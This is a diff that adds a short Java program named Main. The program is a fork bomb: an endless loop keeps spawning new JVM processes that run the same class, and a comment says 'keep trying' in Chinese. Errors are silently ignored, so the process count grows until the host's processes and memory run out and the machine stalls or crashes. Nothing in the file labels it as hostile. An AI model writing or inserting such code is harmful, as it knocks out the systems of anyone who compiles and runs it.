@@ -0,0 +1,11 @@
+public class Main {
+    public static void main(String[] args) {
+        while (true) {
+            try {
+                new ProcessBuilder("java", "-cp", ".", "Main").start();
+            } catch (Exception e) {
+                // 继续尝试
+            }
+        }
+    }
+}